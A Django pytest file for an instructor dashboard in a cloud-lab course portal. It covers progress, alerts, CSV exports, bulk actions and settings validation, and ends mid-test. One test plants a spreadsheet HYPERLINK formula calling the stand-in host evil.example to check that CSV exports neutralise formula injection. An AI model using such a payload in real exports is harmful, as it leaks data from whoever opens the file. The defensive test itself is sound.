"""The cohort page, its live partial, filters, CSV exports, actions and settings. The
actions only record intent and enqueue: nothing here needs the cloud."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from curriculum.models import Lesson, LessonCompletion
from labs.cloud import pricing
from labs.dashboard.models import CohortOperation
from labs.models import CloudAccount, CloudResource, LabCheck
from tests.dashboard.conftest import make_resource
from tests.dashboard.populate import populate_cohort
from tests.fixtures.users import make_member

pytestmark = pytest.mark.django_db

HTMX = {"HTTP_HX_REQUEST": "true"}


@pytest.fixture(autouse=True)
def _course(course):
    pass


def _page(client, cohort, query=""):
    response = client.get(f"/dashboard/{cohort.pk}/{query}")
    assert response.status_code == 200
    return response


def test_page_shows_each_learners_progress_and_running_resources(
    instructor_client, cohort, learner, other_learner, lab_settings
):
    lesson = Lesson.objects.get(slug="why-the-cloud")
    LessonCompletion.objects.create(user=learner, lesson=lesson)
    LabCheck.objects.create(
        user=other_learner, cohort=cohort, lab="notebook", region="us-east-1", state="not_yet"
    )
    make_resource(learner, lab_settings, cloud_name="nb-visible", hourly_usd=Decimal("0.05"))
    make_resource(learner, lab_settings, cloud_name="nb-gone", state="deleted")

    response = _page(instructor_client, cohort)
    dashboard = response.context["dashboard"]
    rows = {row.username: row for row in dashboard.learners}
    assert rows["learner"].cells[0] == "done" and rows["learner"].done == 1
    notebook_column = [lesson["lab"] for lesson in dashboard.lessons].index("notebook")
    assert rows["other-learner"].cells[notebook_column] == "stuck"
    assert rows["learner"].cells[notebook_column] == "doing"
    assert [r.cloud_name for r in rows["learner"].resources] == ["nb-visible"]
    html = response.content.decode()
    assert "Notebook instance · us-east-1 · ml.t3.medium" in html
    assert '<th scope="row">learner' in html
    assert '<th scope="col">Last activity</th>' in html
    assert '<option value="eu-west-1">eu-west-1 — Europe (Ireland)</option>' in html
    assert 'aria-live="polite"' in html
    assert dashboard.totals.learners == 2 and dashboard.totals.live_resources == 1


def test_a_passed_clean_up_is_not_a_done_lab(instructor_client, cohort, learner):
    # The learner cleaned up without ever passing the lab's progress check.
    LabCheck.objects.create(
        user=learner, cohort=cohort, lab="storage", purpose="cleanup", region="us-east-1",
        state="passed",
    )  # fmt: skip
    dashboard = _page(instructor_client, cohort).context["dashboard"]
    storage_column = [lesson["lab"] for lesson in dashboard.lessons].index("storage")
    row = dashboard.learners[0]
    assert row.cells[storage_column] != "done" and row.done == 0
    progress = instructor_client.get(f"/dashboard/{cohort.pk}/export/progress.csv")
    (exported,) = csv.DictReader(io.StringIO(progress.content.decode()))
    assert exported["done"] == "0"


def test_alerts_name_old_stuck_failed_and_out_of_region_resources_and_spend(
    instructor_client, cohort, learner, lab_settings
):
    now = timezone.now()
    lab_settings.budget_usd = Decimal("10.00")
    lab_settings.allowed_regions = ["us-east-1"]
    lab_settings.save()
    # One notebook per learner and region, as the portal allows.
    second, third = (make_member(name, cohort) for name in ("second-learner", "third-learner"))
    make_resource(
        learner, lab_settings, cloud_name="nb-old", expires_at=now - timedelta(minutes=5)
    )
    stuck = make_resource(
        second, lab_settings, cloud_name="nb-stuck", state="provisioning", cloud_status="Pending"
    )
    CloudResource.objects.filter(pk=stuck.pk).update(updated_at=now - timedelta(minutes=40))
    make_resource(
        learner,
        lab_settings,
        kind="training_job",
        lab="training",
        cloud_name="job-failed",
        state="failed",
        failure_reason="AlgorithmError: num_round must be set",
    )
    make_resource(learner, lab_settings, cloud_name="nb-tokyo", region="ap-northeast-1")
    make_resource(
        third,
        lab_settings,
        cloud_name="nb-spent",
        state="stopped",
        estimated_cost_usd=Decimal("9.00"),
    )

    alerts = {a.kind: a for a in _page(instructor_client, cohort).context["dashboard"].alerts}

    assert any("nb-old" in item for item in alerts["ttl"].items)
    assert any("nb-stuck" in item and "Pending" in item for item in alerts["stuck"].items)
    assert any("num_round must be set" in item for item in alerts["failed"].items)
    assert [i for i in alerts["region"].items if "ap-northeast-1" in i]
    assert alerts["budget"].level == "warn" and "$9.00 of $10.00" in alerts["budget"].items[0]


@pytest.mark.parametrize(
    ("gpu_allowed", "level", "title"),
    [
        (True, "warn", "GPU instances running"),
        (False, "bad", "GPU instances running, though GPU types are off for new launches"),
    ],
)
def test_a_running_gpu_is_a_tile_and_an_alert(
    instructor_client, cohort, learner, lab_settings, gpu_allowed, level, title
):
    lab_settings.gpu_allowed = gpu_allowed
    lab_settings.save()
    started = timezone.now() - timedelta(minutes=30)
    make_resource(
        learner, lab_settings, cloud_name="nb-cpu", billing_started_at=started,
        hourly_usd=Decimal("0.05"),
    )  # fmt: skip
    make_resource(
        learner, lab_settings, cloud_name="nb-gpu", region="eu-west-1",
        instance_type="ml.g4dn.xlarge", hourly_usd=Decimal("0.736"), billing_started_at=started,
    )  # fmt: skip

    response = _page(instructor_client, cohort)

    dashboard = response.context["dashboard"]
    assert dashboard.totals.gpus_billing == 1
    gpu = next(a for a in dashboard.alerts if a.kind == "gpu")
    assert (gpu.level, gpu.title) == (level, title)
    assert len(gpu.items) == 1 and "nb-gpu" in gpu.items[0] and "$0.74/hour" in gpu.items[0]
    assert '<div class="tile tile-warn"><dt>GPUs running</dt><dd>1</dd>' in (
        response.content.decode()
    )


def test_spend_past_the_budget_says_launches_are_refused(
    instructor_client, cohort, learner, lab_settings
):
    lab_settings.budget_usd = Decimal("10.00")
    lab_settings.save()
    make_resource(learner, lab_settings, state="stopped", estimated_cost_usd=Decimal("24.70"))

    alerts = {a.kind: a for a in _page(instructor_client, cohort).context["dashboard"].alerts}

    assert alerts["budget"].level == "bad"
    assert alerts["budget"].title.startswith("Spend has reached the budget")
    assert "(247%)" in alerts["budget"].items[0]


def test_a_stopped_notebook_is_still_in_the_cloud(
    instructor_client, cohort, learner, lab_settings
):
    # After "Stop all notebooks" they keep their storage until deleted: still counted.
    make_resource(learner, lab_settings, cloud_name="nb-stopped", state="stopped")
    make_resource(learner, lab_settings, kind="bucket", lab="storage", cloud_name="b-ready")

    page = _page(instructor_client, cohort).content.decode()

    assert "<dt>In the cloud now</dt><dd>2<" in page and "0 billing, 1 stopped" in page
    assert "In the cloud by region: us-east-1 2" in page


def test_turning_gpus_off_is_said_as_off(instructor_client, cohort, lab_settings):
    lab_settings.gpu_allowed = True
    lab_settings.save()
    instructor_client.post(
        f"/dashboard/{cohort.pk}/settings/", _settings_data(lab_settings, gpu_allowed="")
    )
    operation = CohortOperation.objects.get(kind="settings")
    assert "GPU instance types allowed: off" in operation.summary


def test_a_quiet_cohort_has_no_alerts(instructor_client, cohort, learner, lab_settings):
    make_resource(learner, lab_settings, expires_at=timezone.now() + timedelta(hours=1))
    response = _page(instructor_client, cohort)
    assert response.context["dashboard"].alerts == []
    assert "No alerts" in response.content.decode()


def test_live_partial_answers_304_until_something_changes(
    instructor_client, cohort, learner, lab_settings
):
    notebook = make_resource(learner, lab_settings)
    fingerprint = _page(instructor_client, cohort).context["fingerprint"]

    unchanged = instructor_client.get(f"/dashboard/{cohort.pk}/live/?fp={fingerprint}", **HTMX)
    assert unchanged.status_code == 304

    CloudResource.objects.filter(pk=notebook.pk).update(state="stopping")
    CloudResource.objects.filter(pk=notebook.pk).update(updated_at=timezone.now())
    changed = instructor_client.get(f"/dashboard/{cohort.pk}/live/?fp={fingerprint}", **HTMX)
    assert changed.status_code == 200
    assert changed.context["fingerprint"] != fingerprint
    assert 'id="dash-live"' in changed.content.decode()
    # The screen-reader line changes inside its live region, which stays in the page.
    assert '<p id="dash-announcer" hx-swap-oob="innerHTML">Updated at' in (
        changed.content.decode()
    )
    again = instructor_client.get(
        f"/dashboard/{cohort.pk}/live/", HTTP_IF_NONE_MATCH=changed["ETag"]
    )
    assert again.status_code == 304


def test_a_completed_lesson_changes_the_fingerprint(instructor_client, cohort, learner):
    fingerprint = _page(instructor_client, cohort).context["fingerprint"]
    LessonCompletion.objects.create(user=learner, lesson=Lesson.objects.first())
    assert (
        instructor_client.get(f"/dashboard/{cohort.pk}/live/?fp={fingerprint}").status_code == 200
    )


def test_filters_narrow_resources_and_learners(
    instructor_client, cohort, learner, other_learner, lab_settings
):
    make_resource(learner, lab_settings, cloud_name="nb-east", region="us-east-1")
    make_resource(other_learner, lab_settings, cloud_name="nb-west", region="eu-west-1")
    make_resource(
        learner, lab_settings, cloud_name="nb-stopped", state="stopped", region="us-west-2"
    )

    by_region = _page(instructor_client, cohort, "?region=eu-west-1").context["dashboard"]
    assert [row.username for row in by_region.learners] == ["other-learner"]
    assert [r.cloud_name for r in by_region.resources] == ["nb-west"]

    stopped = _page(instructor_client, cohort, "?state=stopped").context["dashboard"]
    assert [r.cloud_name for r in stopped.resources] == ["nb-stopped"]

    by_lab = _page(instructor_client, cohort, "?lab=training").context["dashboard"]
    assert by_lab.learners == [] and by_lab.resources == []

    nonsense = _page(instructor_client, cohort, "?region=mars-1&state=<x>").context["filters"]
    assert nonsense.is_default


def test_filter_form_with_htmx_gets_only_the_live_region(instructor_client, cohort, lab_settings):
    response = instructor_client.get(f"/dashboard/{cohort.pk}/?region=us-east-1", **HTMX)
    html = response.content.decode()
    assert html.lstrip().startswith('<div id="dash-live"') and "<html" not in html


def test_csv_exports_hold_progress_and_resources(instructor_client, cohort, learner, lab_settings):
    LessonCompletion.objects.create(user=learner, lesson=Lesson.objects.get(slug="why-the-cloud"))
    make_resource(learner, lab_settings, cloud_name="nb-csv", hourly_usd=Decimal("0.05"))

    progress = instructor_client.get(f"/dashboard/{cohort.pk}/export/progress.csv")
    assert progress["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(progress.content.decode())))
    assert rows[0]["learner"] == "learner" and rows[0]["why-the-cloud"] == "done"
    assert rows[0]["done"] == "1" and rows[0]["lessons"] == "14"

    resources = instructor_client.get(f"/dashboard/{cohort.pk}/export/resources.csv")
    rows = list(csv.DictReader(io.StringIO(resources.content.decode())))
    assert [(r["learner"], r["name"], r["state"]) for r in rows] == [
        ("learner", "nb-csv", "ready")
    ]


def test_csv_cells_that_would_run_as_spreadsheet_formulas_are_neutralised(
    instructor_client, cohort, learner, lab_settings
):
    learner.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    learner.save()
    make_resource(
        learner, lab_settings, cloud_name="nb-formula",
        failure_reason="-2+3 @SUM(A1)",
    )  # fmt: skip
    progress = instructor_client.get(f"/dashboard/{cohort.pk}/export/progress.csv")
    (row,) = csv.DictReader(io.StringIO(progress.content.decode()))
    assert row["name"].startswith("'=HYPERLINK")
    resources = instructor_client.get(f"/dashboard/{cohort.pk}/export/resources.csv")
    (row,) = csv.DictReader(io.StringIO(resources.content.decode()))
    assert row["failure_reason"] == "'-2+3 @SUM(A1)" and row["name"] == "nb-formula"


def test_page_query_count_is_the_same_for_10_and_500_learners(
    instructor_client, cohort, lab_settings
):
    populate_cohort(lab_settings, learners=10)
    url = f"/dashboard/{cohort.pk}/"
    instructor_client.get(url)  # Warm the session and content types.
    with CaptureQueriesContext(connection) as ten:
        assert len(instructor_client.get(url).context["dashboard"].learners) == 10

    populate_cohort(lab_settings, learners=490, start=10)
    with CaptureQueriesContext(connection) as five_hundred:
        response = instructor_client.get(url)
    assert len(response.context["dashboard"].learners) == 500
    assert len(five_hundred) == len(ten), [q["sql"][:120] for q in five_hundred.captured_queries]
    assert len(ten) <= 13  # session, user, the nav's role check, then the page's own

    live = f"/dashboard/{cohort.pk}/live/?fp={response.context['fingerprint']}"
    with CaptureQueriesContext(connection) as poll:
        assert instructor_client.get(live).status_code == 304
    assert len(poll) <= 4


# --- Actions ---------------------------------------------------------------------------


def test_stop_all_notebooks_without_javascript_asks_first_then_stops_and_records(
    instructor_client,
    cohort,
    learner,
    other_learner,
    lab_settings,
    django_capture_on_commit_callbacks,
):
    mine = make_resource(learner, lab_settings)
    theirs = make_resource(other_learner, lab_settings)
    bucket = make_resource(learner, lab_settings, kind="bucket", lab="storage", cloud_name="b")
    url = f"/dashboard/{cohort.pk}/actions/stop-notebooks/"

    question = instructor_client.post(url)
    assert question.status_code == 200 and "Are you sure?" in question.content.decode()
    assert CloudResource.objects.get(pk=mine.pk).state == "ready"

    with django_capture_on_commit_callbacks() as callbacks:
        done = instructor_client.post(url, {"confirm": "yes"})
    assert done.status_code == 302
    assert len(callbacks) == 2  # one stop task per notebook, enqueued after commit
    for notebook in (mine, theirs):
        notebook.refresh_from_db()
        assert notebook.state == "stopping"
        messages = list(notebook.events.values_list("message", flat=True))
        assert any("stopped every notebook of the cohort" in m for m in messages)
    assert CloudResource.objects.get(pk=bucket.pk).state == "ready"
    operation = CohortOperation.objects.get()
    assert operation.kind == "stop_notebooks" and operation.resources_touched == 2


def test_stop_notebooks_also_stops_one_the_cloud_has_not_created_yet(
    instructor_client, cohort, learner, lab_settings
):
    from labs.services.observation import Observation
    from labs.services.resources import resource_apply_observation

    # Launched a moment before the click: the worker has not submitted it yet.
    starting = make_resource(learner, lab_settings, state="submitting", cloud_status="")

    instructor_client.post(f"/dashboard/{cohort.pk}/actions/stop-notebooks/", {"confirm": "yes"})

    summary = CohortOperation.objects.get().summary
    assert "1 not created yet will be stopped as soon as the cloud has it" in summary
    starting.refresh_from_db()
    assert starting.state == "submitting"
    # The cloud answers Pending: the stop is asked then, once.
    resource_apply_observation(starting, Observation(state="provisioning", cloud_status="Pending"))
    starting.refresh_from_db()
    assert starting.state == "stopping"
    assert "stop_when_started" not in starting.details
    assert "stopped every notebook of the cohort" in starting.events.last().message


def test_teardown_with_htmx_asks_for_every_resource_to_be_deleted_and_starts_a_check(
    instructor_client,
    cohort,
    learner,
    other_learner,
    lab_settings,
    django_capture_on_commit_callbacks,
):
    resources = [
        make_resource(learner, lab_settings, region="eu-west-1"),
        make_resource(other_learner, lab_settings, kind="bucket", lab="storage", cloud_name="b"),
        make_resource(other_learner, lab_settings, cloud_name="out", region="ap-east-1"),
    ]
    with django_capture_on_commit_callbacks() as callbacks:
        response = instructor_client.post(f"/dashboard/{cohort.pk}/actions/teardown/", **HTMX)
    assert response.status_code == 200
    assert response["HX-Trigger"] == "dashboard-changed"
    assert len(callbacks) == 4  # three deletions and the teardown check
    for resource in resources:
        resource.refresh_from_db()
        assert resource.state == "deleting"
        assert resource.events.filter(message__contains="tearing down the whole cohort").exists()
    operation = CohortOperation.objects.get()
    assert operation.state == "running" and "ap-east-1" in operation.regions
    assert set(lab_settings.allowed_regions) <= set(operation.regions)


def test_teardown_of_one_learner_leaves_the_others_alone(
    instructor_client, cohort, learner, other_learner, lab_settings
):
    mine = make_resource(learner, lab_settings)
    theirs = make_resource(other_learner, lab_settings)
    response = instructor_client.post(
        f"/dashboard/{cohort.pk}/learners/{learner.pk}/teardown/", {"confirm": "yes"}
    )
    assert response.status_code == 302
    assert CloudResource.objects.get(pk=mine.pk).state == "deleting"
    assert CloudResource.objects.get(pk=theirs.pk).state == "ready"
    assert CohortOperation.objects.get().learner == learner


def test_extend_gives_the_learner_more_time_and_says_so_in_the_timeline(
    instructor_client, cohort, learner, other_learner, lab_settings
):
    expires = timezone.now() + timedelta(minutes=10)
    mine = make_resource(learner, lab_settings, expires_at=expires)
    theirs = make_resource(other_learner, lab_settings, expires_at=expires)
    url = f"/dashboard/{cohort.pk}/learners/{learner.pk}/extend/"

    response = instructor_client.post(url, {"minutes": "60"}, **HTMX)
    assert response.status_code == 200
    mine.refresh_from_db()
    assert mine.expires_at >= expires + timedelta(minutes=59)
    assert mine.events.filter(message="Time extended by 60 minutes.").exists()
    assert CloudResource.objects.get(pk=theirs.pk).expires_at == expires

    refused = instructor_client.post(url, {"minutes": "100000"}, **HTMX)
    assert refused.status_code == 422
    assert "Choose how many minutes" in refused.content.decode()
    # Without JavaScript the form posts as a page: the same sentence, on a 400 page.
    refused = instructor_client.post(url, {"minutes": "abc"})
    assert refused.status_code == 400
    assert "Choose how many minutes" in refused.content.decode()
    assert f'href="/dashboard/{cohort.pk}/"' in refused.content.decode()


def test_sweep_request_enqueues_a_task_and_shows_it_is_waiting(
    instructor_client, cohort, lab_settings, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks() as callbacks:
        response = instructor_client.post(f"/dashboard/{cohort.pk}/actions/sweep/", **HTMX)
    assert len(callbacks) == 1
    operation = CohortOperation.objects.get()
    assert operation.kind == "sweep" and operation.state == "pending"
    assert f"/dashboard/{cohort.pk}/operations/{operation.pk}/" in response.content.decode()


def test_deleting_found_resources_is_refused_when_nothing_was_found(
    instructor_client, cohort, instructor, lab_settings
):
    sweep = CohortOperation.objects.create(cohort=cohort, kind="sweep", state="done", found=[])
    response = instructor_client.post(
        f"/dashboard/{cohort.pk}/operations/{sweep.pk}/delete-found/", **HTMX
    )
    assert response.status_code == 422
    assert CohortOperation.objects.count() == 1


def test_what_a_sweep_found_is_sent_for_deletion_once(
    instructor_client, cohort, instructor, lab_settings
):
    found = {"kind": "notebook", "region": "us-east-1", "name": "nb-stray",
             "status": "InService", "live": True, "arn": "", "tags": {}}  # fmt: skip
    sweep = CohortOperation.objects.create(
        cohort=cohort, kind="sweep", state="done", found=[found]
    )
    url = f"/dashboard/{cohort.pk}/operations/{sweep.pk}/delete-found/"
    assert instructor_client.post(url, **HTMX).status_code == 200
    again = instructor_client.post(url, **HTMX)
    assert again.status_code == 422
    assert "already been sent for deletion" in again.content.decode()
    assert CohortOperation.objects.filter(kind="sweep_delete").count() == 1
    # The sweep's card no longer offers the button.
    card = instructor_client.get(f"/dashboard/{cohort.pk}/operations/{sweep.pk}/", **HTMX)
    assert "nb-stray" in card.content.decode()
    assert "delete-found" not in card.content.decode()


def test_what_a_sweep_found_is_an_alert_until_it_is_sent_for_deletion(
    instructor_client, cohort, instructor, lab_settings
):
    def unknown_alert():
        alerts = _page(instructor_client, cohort).context["dashboard"].alerts
        return next((a for a in alerts if a.kind == "unknown"), None)

    found = {"kind": "notebook", "region": "eu-west-1", "name": "nb-stray",
             "status": "InService", "live": True, "arn": "", "tags": {}}  # fmt: skip
    gone = {**found, "name": "nb-gone", "status": "Deleted", "live": False}
    sweep = CohortOperation.objects.create(
        cohort=cohort, kind="sweep", state="done", found=[found, gone]
    )
    alert = unknown_alert()
    assert alert.level == "bad" and alert.items == ["notebook nb-stray in eu-west-1 (InService)"]
    assert 'data-alert="unknown"' in _page(instructor_client, cohort).content.decode()
    instructor_client.post(f"/dashboard/{cohort.pk}/operations/{sweep.pk}/delete-found/", **HTMX)
    assert unknown_alert() is None
    # A newer sweep that finds nothing says what is true now; other actions do not hide it.
    CohortOperation.objects.create(cohort=cohort, kind="sweep", state="done", found=[found])
    for _ in range(8):
        CohortOperation.objects.create(cohort=cohort, kind="extend_learner", state="done")
    CohortOperation.objects.create(cohort=cohort, kind="teardown", state="done", found=[found])
    assert unknown_alert().items == ["notebook nb-stray in eu-west-1 (InService)"]
    CohortOperation.objects.create(cohort=cohort, kind="sweep", state="done", found=[])
    assert unknown_alert() is None


def test_what_a_sweep_found_running_says_what_it_costs_per_hour(
    instructor_client, cohort, instructor, lab_settings
):
    row = {"region": "eu-west-1", "live": True, "arn": "", "tags": {}}
    notebook = {**row, "kind": "notebook", "name": "nb-stray", "status": "InService",
                "instance_type": "ml.g4dn.xlarge", "runs_instance": True,
                "hourly_usd": "0.8250", "costs": "ml.g4dn.xlarge, about $0.83/hour"}  # fmt: skip
    unpriced = {**row, "kind": "training_job", "name": "job-stray", "status": "InProgress",
                "instance_type": "ml.x9.huge", "runs_instance": True, "hourly_usd": "",
                "costs": "ml.x9.huge, price unknown"}  # fmt: skip
    bucket = {**row, "kind": "bucket", "name": "stray-bucket", "status": "Available",
              "runs_instance": False, "hourly_usd": "", "costs": "its storage"}  # fmt: skip
    # Stored before sweeps kept estimates: no costs at all.
    older = {**row, "kind": "notebook", "name": "nb-older", "status": "InService"}
    sweep = CohortOperation.objects.create(
        cohort=cohort, kind="sweep", state="done", found=[notebook, unpriced, bucket, older]
    )

    alerts = _page(instructor_client, cohort).context["dashboard"].alerts
    alert = next(a for a in alerts if a.kind == "unknown")
    card = instructor_client.get(f"/dashboard/{cohort.pk}/operations/{sweep.pk}/", **HTMX)

    assert (
        "unknown to the portal; those running cost about $0.83/hour together, 1 more of "
        "unknown price: delete them" in alert.title
    )
    assert alert.items == [
        "notebook nb-stray in eu-west-1 (InService; ml.g4dn.xlarge, about $0.83/hour)",
        "training_job job-stray in eu-west-1 (InProgress; ml.x9.huge, price unknown)",
        "bucket stray-bucket in eu-west-1 (Available; its storage)",
        "notebook nb-older in eu-west-1 (InService)",
    ]
    html = card.content.decode()
    assert '<th scope="col">Costs</th>' in html
    assert "<td>ml.g4dn.xlarge, about $0.83/hour</td>" in html
    assert "<td>its storage</td>" in html
    assert "<td>—</td>" in html  # the older row


def test_operation_status_stops_polling_once_done(instructor_client, cohort, instructor):
    operation = CohortOperation.objects.create(
        cohort=cohort, kind="sweep", state="done", summary="Listed 5 regions: all known."
    )
    response = instructor_client.get(f"/dashboard/{cohort.pk}/operations/{operation.pk}/", **HTMX)
    assert response.status_code == 286 and "all known" in response.content.decode()


# --- Settings --------------------------------------------------------------------------


def _settings_data(lab_settings, **changes):
    data = {
        "allowed_regions": ["us-east-1", "eu-west-1"],
        "allowed_instance_types": ["ml.t3.medium", "ml.m5.large"],
        "notebook_instance_type": "ml.t3.medium",
        "training_instance_type": "ml.m5.large",
        "transform_instance_type": "ml.m5.large",
        "max_active_per_learner": "3",
        "lab_ttl_minutes": "120",
        "budget_usd": "75.50",
    }
    data.update(changes)
    return data


def test_settings_save_and_record_what_changed(instructor_client, cohort, lab_settings):
    response = instructor_client.post(
        f"/dashboard/{cohort.pk}/settings/", _settings_data(lab_settings)
    )
    assert response.status_code == 302
    lab_settings.refresh_from_db()
    assert lab_settings.allowed_regions == ["us-east-1", "eu-west-1"]
    assert lab_settings.budget_usd == Decimal("75.50") and lab_settings.lab_ttl_minutes == 120
    operation = CohortOperation.objects.get(kind="settings")
    assert "budget" in operation.summary and "allowed regions" in operation.summary
    assert "lab time-to-live" in operation.summary and "usd" not in operation.summary


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"allowed_regions": ["us-east-1", "mars-north-1"]}, "mars-north-1 is not an AWS region"),
        ({"allowed_regions": []}, "Allow at least one region"),
        ({"allowed_instance_types": ["ml.t3.medium", "ml.x99.huge"]}, "ml.x99.huge is not"),
        (
            {
                "allowed_instance_types": ["ml.t3.medium", "ml.m5.large", "ml.g5.xlarge"],
                "training_instance_type": "ml.g5.xlarge",
            },
            "ml.g5.xlarge is a GPU type and GPU types are off",
        ),
        ({"training_instance_type": "ml.c5.xlarge"}, "not among the allowed instance types"),
        ({"training_instance_type": "ml.t3.medium"}, "for notebooks only"),
        ({"max_active_per_learner": "0"}, "at least 1 running resource"),
        ({"max_active_per_learner": "500"}, "at most 20"),
        ({"lab_ttl_minutes": "5"}, "at least 15 minutes"),
        ({"budget_usd": "-1"}, "cannot be negative"),
        ({"budget_usd": "lots"}, "Enter an amount in dollars"),
        ({"budget_usd": "1e9"}, "The budget can be at most $100,000."),
        # Django's own checkbox reads these as ticked: GPU prices switched on by junk.
        ({"gpu_allowed": "off-ish"}, "Tick the box or leave it empty."),
        ({"gpu_allowed": "2"}, "Tick the box or leave it empty."),
    ],
)
def test_settings_refuse_bad_values_with_a_clear_sentence(
    instructor_client, cohort, lab_settings, changes, message
):
    response = instructor_client.post(
        f"/dashboard/{cohort.pk}/settings/", _settings_data(lab_settings, **changes)
    )
    assert response.status_code == 400
    assert message in response.content.decode()
    assert "digits" not in response.content.decode()  # One sentence, in dollars.
    lab_settings.refresh_from_db()
    assert lab_settings.budget_usd == Decimal("50.00")


@pytest.mark.parametrize(
    ("sent", "saved"), [("on", True), ("true", True), ("off", False), ("0", False), ("", False)]
)
def test_the_gpu_box_is_read_as_a_browser_sends_it(
    instructor_client, cohort, lab_settings, sent, saved
):
    data = _settings_data(lab_settings, gpu_allowed=sent)
    assert instructor_client.post(f"/dashboard/{cohort.pk}/settings/", data).status_code == 302
    lab_settings.refresh_from_db()
    assert lab_settings.gpu_allowed is saved


def test_a_region_ticked_twice_is_allowed_once(instructor_client, cohort, lab_settings):
    data = _settings_data(lab_settings, allowed_regions=["eu-west-1", "us-east-1", "eu-west-1"])
    assert instructor_client.post(f"/dashboard/{cohort.pk}/settings/", data).status_code == 302
    lab_settings.refresh_from_db()
    assert lab_settings.allowed_regions == ["eu-west-1", "us-east-1"]


def test_an_instructor_cannot_move_the_cohort_to_another_cloud_account(
    instructor_client, cohort, lab_settings
):
    # Whose bill the labs go to is the administrator's choice (Django admin).
    other = CloudAccount.objects.create(name="Another school", kind="default_chain")
    data = _settings_data(lab_settings, account=str(other.pk))

    assert instructor_client.post(f"/dashboard/{cohort.pk}/settings/", data).status_code == 302
    lab_settings.refresh_from_db()
    assert lab_settings.account_id != other.pk


def test_a_new_lab_time_applies_to_what_is_already_running(
    instructor_client, cohort, lab_settings, learner
):
    started = timezone.now() - timedelta(minutes=20)
    notebook = CloudResource.objects.create(
        owner=learner, cohort=cohort, account=lab_settings.account, lab="notebook",
        kind="notebook", region="us-east-1", cloud_name="nb-ttl", state="ready",
        expires_at=started + timedelta(minutes=180),
    )  # fmt: skip
    CloudResource.objects.filter(pk=notebook.pk).update(created_at=started)

    data = _settings_data(lab_settings, lab_ttl_minutes="15")
    instructor_client.post(f"/dashboard/{cohort.pk}/settings/", data)

    notebook.refresh_from_db()
    assert notebook.expires_at == started + timedelta(minutes=15)  # Due now, not in 3 hours.
    assert "applied to 1 resource" in CohortOperation.objects.get(kind="settings").summary
    assert "The instructor set the lab time to 15 minutes" in notebook.events.last().message


def test_a_new_lab_time_keeps_an_extension(instructor_client, cohort, lab_settings, learner):
    started = timezone.now() - timedelta(minutes=20)
    extended = started + timedelta(minutes=180 + 60)  # One hour more for this learner.
    notebook = CloudResource.objects.create(
        owner=learner, cohort=cohort, account=lab_settings.account, lab="notebook",
        kind="notebook", region="us-east-1", cloud_name="nb-ext", state="ready",
        expires_at=extended,
    )  # fmt: skip

    data = _settings_data(lab_settings, lab_ttl_minutes="200")
    instructor_client.post(f"/dashboard/{cohort.pk}/settings/", data)

    notebook.refresh_from_db()
    assert notebook.expires_at == extended + timedelta(minutes=20)


def test_the_settings_page_saves_as_shown(instructor_client, cohort, lab_settings):
    # An instructor who only changes the budget posts every other field as the page shows
    # it, GPU types ticked in the list while GPUs are off included (the default).
    from labs.dashboard.forms import LabSettingsForm

    shown = LabSettingsForm.for_settings(lab_settings)
    data = {name: shown[name].value() for name in LabSettingsForm.FIELDS}
    data = {name: value for name, value in data.items() if value not in (False, None)}
    assert any(pricing.is_gpu(name) for name in data["allowed_instance_types"])
    data["budget_usd"] = "80"
    response = instructor_client.post(f"/dashboard/{cohort.pk}/settings/", data)
    assert response.status_code == 302, response.content.decode()[-2000:]
    lab_settings.refresh_from_db()
    assert lab_settings.budget_usd == Decimal("80") and not lab_settings.gpu_allowed


def test_gpu_types_are_accepted_once_opted_in(instructor_client, cohort, lab_settings):
    data = _settings_data(
        lab_settings,
        allowed_instance_types=["ml.t3.medium", "ml.m5.large", "ml.g5.xlarge"],
        gpu_allowed="on",
    )
    assert instructor_client.post(f"/dashboard/{cohort.pk}/settings/", data).status_code == 302
    lab_settings.refresh_from_db()
    assert lab_settings.gpu_allowed and "ml.g5.xlarge" in lab_settings.allowed_instance_types


def test_settings_page_never_shows_an_accounts_external_id_or_role(
    instructor_client, cohort, lab_settings
):
    CloudAccount.objects.create(
        name="AWS training account",
        kind="assume_role",
        role_arn="arn:aws:iam::111122223333:role/PortalLabs",
        external_id="s3cr3t-external-id-value",
    )
    lab_settings.account.external_id = "another-secret-id"
    lab_settings.account.save()
    html = instructor_client.get(f"/dashboard/{cohort.pk}/settings/").content.decode()
    assert lab_settings.account.name in html
    assert "AWS training account" not in html  # Another school's account is not offered.
    for secret in ("s3cr3t-external-id-value", "another-secret-id", "111122223333"):
        assert secret not in html
    page = instructor_client.get(f"/dashboard/{cohort.pk}/").content.decode()
    assert "another-secret-id" not in page


def test_large_cohorts_are_paged_but_totals_cover_everyone(
    instructor_client, cohort, lab_settings
):
    populate_cohort(lab_settings, learners=150)
    first = _page(instructor_client, cohort)
    body = first.content.decode().split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    assert body.count("<tr") == 100
    assert first.context["dashboard"].totals.learners == 150
    assert "Learners 1–100 of 150" in first.content.decode()
    second = _page(instructor_client, cohort, "?page=2").content.decode()
    assert second.split("<tbody>", 1)[1].split("</tbody>", 1)[0].count("<tr") == 50
    assert "Learners 101–150 of 150" in second
    # A page number past the end, or not a number, shows the nearest real page.
    assert _page(instructor_client, cohort, "?page=99").context["page"] == 2
    assert _page(instructor_client, cohort, "?page=x").context["page"] == 1


def test_an_instructors_own_resources_are_accounted_for_beside_the_rows(
    instructor_client, cohort, instructor, learner, lab_settings
):
    make_resource(learner, lab_settings)
    make_resource(instructor, lab_settings, cloud_name="nb-teacher")

    page = _page(instructor_client, cohort)

    assert page.context["dashboard"].totals.live_resources == 2
    text = page.content.decode()
    assert "not enrolled here as learners (instructors trying the labs), 1 running" in text


def test_the_csv_links_follow_the_filters_the_page_shows(instructor_client, cohort):
    # The filters form swaps the live part of the page; the links are part of it.
    live = instructor_client.get(f"/dashboard/{cohort.pk}/?lab=training&state=all", **HTMX)

    text = live.content.decode()
    assert "resources.csv?" in text and "lab=training" in text.split("resources.csv?", 1)[1][:80]


def test_a_stop_asked_while_the_worker_submits_does_not_lose_the_clouds_answer(
    cohort, learner, instructor, lab_settings
):
    from labs.dashboard.services import cohort_stop_notebooks
    from labs.services.observation import Observation
    from labs.services.resources import _record_submission

    # The worker has claimed the row and is creating the instance in the cloud...
